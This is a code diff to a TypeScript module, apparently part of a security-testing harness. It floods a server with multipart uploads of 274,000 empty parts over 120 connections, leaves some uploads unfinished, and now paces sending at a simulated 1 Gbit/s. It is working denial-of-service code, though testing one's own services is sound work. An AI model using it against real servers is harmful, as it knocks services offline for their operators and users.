@@ -1,13 +1,26 @@
-import { Agent, request } from 'node:http'
+import { Agent, type ClientRequest, request } from 'node:http'
+import { setTimeout as sleep } from 'node:timers/promises'
 import type { Attack, AttackFindings } from '../attacker.ts'
 import { flood } from './asking.ts'
 
 const AT_ONCE = 120
+/** The attacker's line: 1 Gbit/s, shared by all connections. */
+const BYTES_PER_SECOND = 125e6
+const PIECE = 64 * 1024
 const PARTS = 274_000
 const BOUNDARY = 'x'
 const EMPTY_PARTS = Buffer.from(
   `${`--${BOUNDARY}\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n`.repeat(PARTS)}--${BOUNDARY}--\r\n`,
 )
+
+/** Sends all of it at the line's pace, as long as somebody takes it. */
+async function sendPaced(upload: ClientRequest) {
+  for (let at = 0; at < EMPTY_PARTS.length && !upload.destroyed; at += PIECE) {
+    upload.write(EMPTY_PARTS.subarray(at, at + PIECE))
+    await sleep((PIECE * AT_ONCE * 1000) / BYTES_PER_SECOND)
+  }
+  if (!upload.destroyed) upload.end()
+}
 
 /** Uploads that are nothing but empty parts, and in turn ones that begin and never end. */
 export async function attackUploads({ url, seconds, tokens }: Attack): Promise<AttackFindings> {
@@ -41,7 +54,7 @@ export async function attackUploads({ url, seconds, tokens }: Attack): Promise<A
       })
       if (n % 4 === 3)
         upload.write(EMPTY_PARTS.subarray(0, 1024)) // and no more
-      else upload.end(EMPTY_PARTS)
+      else void sendPaced(upload)
     })
   }
 }
